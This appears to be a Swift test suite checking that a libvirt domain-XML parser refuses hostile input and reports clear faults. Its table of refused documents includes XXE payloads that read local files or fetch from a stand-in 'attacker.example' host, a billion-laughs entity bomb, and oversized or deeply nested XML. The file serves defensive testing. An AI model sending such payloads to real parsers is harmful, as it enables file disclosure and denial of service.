import Libvirt
import Testing

@Suite struct HostileXMLTests {
  /// Documents that must be refused, each with the fault that it is refused for.
  static let refused: [(name: String, xml: String, fault: LibvirtFault)] = [
    (
      "external entity",
      "<!DOCTYPE d [<!ENTITY x SYSTEM 'file:///attacker/secret'>]><domain><name>&x;</name></domain>",
      .docType
    ),
    ("external DTD", "<!DOCTYPE domain SYSTEM 'file:///attacker/d.dtd'><domain/>", .docType),
    (
      "parameter entity",
      "<!DOCTYPE d [<!ENTITY % p SYSTEM 'http://attacker.example/p'> %p;]><domain/>", .docType
    ),
    (
      "billion laughs",
      "<!DOCTYPE d [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;'>]>"
        + "<domain><name>&c;</name></domain>", .docType
    ),
    (
      "100,000 nested elements", String(repeating: "<a>", count: 100_000),
      .tooDeep(limit: 240)
    ),
    (
      "a million elements", "<a>" + String(repeating: "<b/>", count: 1_000_000) + "</a>",
      .tooManyElements(limit: 100_000)
    ),
    (
      "huge text",
      "<domain><name>" + String(repeating: "C", count: 11_000_000) + "</name></domain>",
      .tooLarge(limit: 4_194_304)
    ),
    (
      "a hundred thousand attributes in one tag",
      "<domain " + (0..<100_000).map { "a\($0)=''" }.joined(separator: " ") + "/>",
      .tooManyAttributes(limit: 256)
    ),
    (
      "namespaces declared level by level",
      (0..<200).map { "<a xmlns:n\($0)='u' xmlns:m\($0)='u'>" }.joined(),
      .tooManyAttributes(limit: 256)
    ),
    (
      "an entity of nowhere", "<domain><name>&x;</name></domain>",
      .notXML(line: 1, message: "Entity 'x' not defined")
    ),
    ("another root", "<html><body/></html>", .notADomain(root: "html")),
    ("a network", "<network><name>default</name></network>", .notADomain(root: "network")),
    (
      "a domain of another namespace", "<domain xmlns='urn:x'><name>n</name></domain>",
      .notADomain(root: "{urn:x}domain")
    ),
    ("no name", "<domain type='kvm'/>", .missing(element: "name", inside: "domain")),
    ("an empty status", "<domstatus/>", .missing(element: "domain", inside: "domstatus")),
    ("nothing", "", .notXML(line: 1, message: "the document is empty")),
    (
      "text", "just text\n",
      .notXML(line: 1, message: "Start tag expected, '<' not found")
    ),
    ("a zero byte", "<domain>\0</domain>", .notUTF8),
  ]

  @Test(arguments: refused.indices) func `is refused with its reason`(index: Int) {
    let document = Self.refused[index]
    #expect(throws: document.fault, "\(document.name)") {
      try DomainFacts(parsing: Array(document.xml.utf8))
    }
  }

  @Test func `bytes that are not UTF-8 are refused whatever encoding they declare`() {
    let xml = Array("<?xml version='1.0' encoding='ISO-8859-1'?><domain><name>".utf8)
    #expect(throws: LibvirtFault.notUTF8) {
      try DomainFacts(parsing: xml + [0xE9] + Array("</name></domain>".utf8))
    }
  }

  @Test func `a declared encoding does not change how UTF-8 is read`() throws {
    let xml = "<?xml version='1.0' encoding='EBCDIC-US'?><domain><name>é</name></domain>"
    #expect(try DomainFacts(parsing: Array(xml.utf8)).name == "é")
  }

  @Test(arguments: 1..<100) func `cut short, it is a fault`(length: Int) {
    let whole =
      "<domain type='kvm'><name>n</name><devices><disk><source file='/a'/></disk></devices>"
      + "<!-- end --></domain>"
    #expect(throws: LibvirtFault.self) {
      try DomainFacts(parsing: Array(whole.utf8.prefix(length)))
    }
  }

  @Test func `the fault tells the line`() {
    let xml = Array("<domain>\n<name>a</name>\n<devices></domain>\n".utf8)
    let fault = #expect(throws: LibvirtFault.self) { try DomainFacts(parsing: xml) }
    #expect(
      fault?.reason
        == "it is not well-formed XML: line 3: Opening and ending tag mismatch: devices line 3 and domain"
    )
  }

  @Test func `240 levels are read, 241 are not`() throws {
    let prefix = "<domain><name>n</name>"
    let inside = String(repeating: "<a>", count: 239) + String(repeating: "</a>", count: 239)
    _ = try DomainFacts(parsing: Array((prefix + inside + "</domain>").utf8))
    #expect(throws: LibvirtFault.tooDeep(limit: 240)) {
      try DomainFacts(parsing: Array((prefix + "<b>" + inside + "</b></domain>").utf8))
    }
  }

  @Test func `what looks like attributes in comments and text is not counted`() throws {
    let many = String(repeating: "a='' ", count: 1000)
    let xml =
      "<domain><!-- <x \(many)> --><name>n</name><d><![CDATA[<x \(many)>]]></d>\(many)</domain>"
    #expect(try DomainFacts(parsing: Array(xml.utf8)).name == "n")
  }

  @Test func `a run of unclosed tags is refused at once`() {
    let xml = Array(String(repeating: "<", count: 400_000).utf8)
    #expect(throws: LibvirtFault.self) { try DomainFacts(parsing: xml) }
  }

  @Test func `nothing reaches standard error`() async throws {
    let result = await #expect(
      processExitsWith: .success, observing: [\.standardErrorContent, \.standardOutputContent]
    ) {
      for document in HostileXMLTests.refused {
        _ = try? DomainFacts(parsing: Array(document.xml.utf8))
      }
    }
    #expect(result?.standardErrorContent == [])
    #expect(result?.standardOutputContent == [])
  }

  @Test func `every fault has a sentence of its own`() {
    #expect(
      LibvirtFault.docType.reason
        == "it holds a document type definition, which libvirt never writes; not read")
    #expect(
      LibvirtFault.unexpectedRoot("domain", expected: "storage pool").reason
        == "it is no storage pool: its root element is 'domain'")
    #expect(LibvirtFault.missing(element: "name", inside: "pool").reason == "'pool' has no 'name'")
    #expect(
      LibvirtFault.tooDeep(limit: 240).reason == "its elements are nested deeper than 240 levels")
  }
}
